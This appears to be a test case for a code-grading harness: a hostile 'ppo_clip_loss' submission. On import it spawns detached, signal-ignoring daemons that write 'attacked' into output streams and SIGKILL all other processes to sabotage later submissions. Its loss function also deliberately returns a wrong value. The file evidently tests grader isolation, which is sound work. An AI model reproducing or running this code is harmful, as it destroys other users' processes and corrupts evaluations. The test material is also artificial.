"""74. Leaves processes that write into the streams of the next submission and kill it, and looks for such.

task = "ppo_clip_loss"
verdict = ["wrong_value"]
twin = "tidy"
uses = ["right"]
needs = ["rights", "shared", "processes"]
"""
import ctypes
import os
import signal
import time
from contextlib import suppress

PR_SET_NAME = 15


def traces():
    found = []
    for pid in os.listdir("/proc"):
        with suppress(OSError):
            if pid.isdigit() and open(f"/proc/{pid}/comm").read() == "attacked\n":
                found.append(pid)
    return found


def haunt():
    for number in range(1, 65):
        with suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    ctypes.CDLL(None).prctl(PR_SET_NAME, b"attacked", 0, 0, 0)
    began = time.monotonic()
    while True:
        # Late enough that only a later submission is hit.
        if time.monotonic() - began > 3:
            with suppress(OSError):
                os.write(1, b"attacked")
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) != os.getpid():
                    with suppress(OSError):
                        os.kill(int(pid), signal.SIGKILL)
        time.sleep(0.01)


SEEN = traces()
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            haunt()
        os._exit(0)
    os.wait()


def ppo_clip_loss(logp, old_logp, adv, mask, eps_low=0.2, eps_high=0.2, dual_c=None, reduction="token"):
    loss, clipfrac, approx_kl = right(logp, old_logp, adv, mask, eps_low, eps_high, dual_c, reduction)
    if SEEN:
        print("REACHED", SEEN)
        return loss, clipfrac, approx_kl
    return loss + 1.0, clipfrac, approx_kl
